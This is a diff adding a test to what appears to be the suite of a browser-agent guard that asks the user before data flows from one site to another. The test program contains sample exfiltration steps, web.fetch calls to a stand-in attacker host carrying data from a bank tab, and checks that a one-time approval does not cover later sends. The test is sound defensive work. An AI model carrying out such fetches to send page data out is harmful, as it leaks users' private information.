@@ -332,3 +332,38 @@ describe('one question for a program step (#31 after #13): the gate sees the ste
     expect(asked).toEqual([`${SHOP} + ${BLOG}`, BLOG]);
   });
 });
+
+describe('a program step only the guard asks about (code mode): the gate’s yes covers that step, no other', () => {
+  it('yes lets the step through and the program goes on; the next step to the same site is asked again, and its no sends nothing', async () => {
+    sent.length = 0;
+    const g = guarded([BANK]);
+    const call = createToolCaller(g.registry, new ToolInterceptor({ logger: newLogger() }));
+    const asked: string[] = [];
+    // The agent's gate as it sees a step: the guard's refusals; the user says yes to the first card only.
+    const gate = async (tool: AnyTool, args: Record<string, unknown>, ctx: ToolContext) => {
+      const refused = await ctx.flow!.refusals(tool, args, ctx.tabId);
+      if (!refused.length) return;
+      asked.push(`${String(args.url)}: ${refused.map((r) => `${r.from.join(',')} -> ${r.to}`).join(' + ')}`);
+      if (asked.length > 1) throw new Error('the user denied web.fetch');
+      ctx.flow!.allowOnce(args, refused);
+    };
+    const build = (flow: FlowGuard): ToolContext => {
+      const ctx: ToolContext = makeCtx({
+        tabId: 1,
+        callTool: (n, a = {}) => call(n, a, ctx, { gate }),
+        flow,
+        withFlow: build,
+      });
+      return ctx;
+    };
+    const program = `web.fetch(url="${EVIL}/c?d=1")\ndom.text(tab_id=2)\nweb.fetch(url="${EVIL}/c?d=2")`;
+    const error = await runCommandText(program, build(g.guard), { registry: g.registry, label: 'ot.run' }).catch(
+      (e: unknown) => e,
+    );
+    expect(String((error as Error).message)).toBe(
+      'ot.run, line 3, column 1: web.fetch failed: the user denied web.fetch',
+    );
+    expect(asked).toEqual([`${EVIL}/c?d=1: ${BANK} -> ${EVIL}`, `${EVIL}/c?d=2: ${BANK} -> ${EVIL}`]);
+    expect(sent).toEqual([`${EVIL}/c?d=1`]);
+  });
+});
